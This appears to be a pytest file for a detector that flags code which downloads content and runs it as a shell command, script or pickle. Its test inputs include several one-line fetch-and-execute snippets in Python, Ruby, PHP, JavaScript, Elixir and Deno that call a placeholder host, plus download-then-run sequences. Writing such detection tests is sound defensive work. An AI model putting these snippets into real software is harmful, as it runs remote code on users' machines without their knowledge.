"""Code that hands what it fetched to a shell."""

from __future__ import annotations

import time

import pytest

from sensor.effects.code.fetched import loads_address, runs_fetched, runs_kept, simple_commands


@pytest.mark.parametrize("code", [
    "os.system(urlopen('http://x.example.net/p').read())", "system(URI.open('http://x.example.net/p').read)", "system(file_get_contents('http://x.example.net/p'));",
    "c=requests.get('http://x.example.net/p').text;subprocess.run(c,shell=True)", "r=requests.get('http://x.example.net/p');c=r.text;subprocess.run(['sh','-c',c])",
    "get('http://x.example.net/p',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>require('child_process').execSync(d))})", "fetch('https://x.example.net/p').then(r=>r.text()).then(t=>require('child_process').exec(t))",
    "Code.eval_string(Req.get!(\"https://x.example.net/p\").body)", "const t=await (await fetch('https://x.example.net/p')).text(); new Deno.Command('sh',{args:['-c',t]})",
])
def test_it_does(code):
    assert runs_fetched(code)


@pytest.mark.parametrize("code", [
    "v=requests.get('https://pypi.org/x').json();subprocess.run(['git','status'])", "fetch('https://x.example.net/v').then(r=>r.json()).then(d=>console.log(d.version))",
    "v=requests.get('https://pypi.org/x').text;print(v);subprocess.run(cmd)", "subprocess.run(['make','test'])", "m=re.exec(fetched)",
])
def test_it_does_not(code):
    assert not runs_fetched(code)


@pytest.mark.parametrize("code", ["system" + " " * 20_000, "exec" + "\n" * 20_000, "x.then(" + "\t " * 10_000, "subprocess." + "a" * 20_000, "x = " + "await  " * 3_000])
def test_a_long_gap_or_word_takes_no_time(code):
    began = time.process_time()
    assert not runs_fetched(f"fetch('https://x.example.net/p');{code};")
    assert time.process_time() - began < 1.0


def test_gaps_hide_nothing():
    assert runs_fetched("c = requests.get('http://x.example.net/p').text\n\n\n" + " " * 500 + "os.system  (\n\n" + " " * 500 + "c)")


@pytest.mark.parametrize(("code", "started"), [
    ("urlretrieve('https://h/a', 't')", [["./t"]]),
    ("open('/tmp/a', 'wb').write(get())", [["sh", "/tmp/a"]]),
    ("fs.writeFileSync('/tmp/a', b)", [["chmod", "+x", "/tmp/a"], ["/tmp/a"]]),
    ("open('/tmp/a.py', 'wb').write(get()); runpy.run_path('/tmp/a.py')", []),
    ("urlretrieve('https://h/a', 'helper.py')\nimport helper", []),
    ("copy('https://h/a.php', '/tmp/a.php'); include '/tmp/a.php';", []),
    ("Path('a.pkl').write_bytes(b); pickle.load(open('a.pkl', 'rb'))", []),
])
def test_files_that_are_kept_and_run(code, started):
    assert runs_kept(code, started)


@pytest.mark.parametrize(("code", "started"), [
    ("urlretrieve('https://h/a', 'data.csv')", [["python3", "read.py", "data.csv"]]),
    ("urlretrieve('https://h/a', 'a.tgz')", [["tar", "xf", "a.tgz"]]),
    ("open('data.json', 'w').write(x)\nimport json", [["cat", "data.json"]]),
    ("open('a.json').read()", [["a.json"]]),
])
def test_files_that_are_kept_and_read(code, started):
    assert not runs_kept(code, started)


def test_code_from_an_address():
    assert loads_address("await import('https://h.example/a.ts')") and loads_address('source("https://h.example/a.R")')
    assert not loads_address("await import('https://deno.land/std/a.ts')") and not loads_address("import('./a.ts')")


def test_words_of_simple_commands():
    assert simple_commands("chmod +x a && ./a; 'sh' b") == [["chmod", "+x", "a"], ["./a"], ["sh", "b"]]
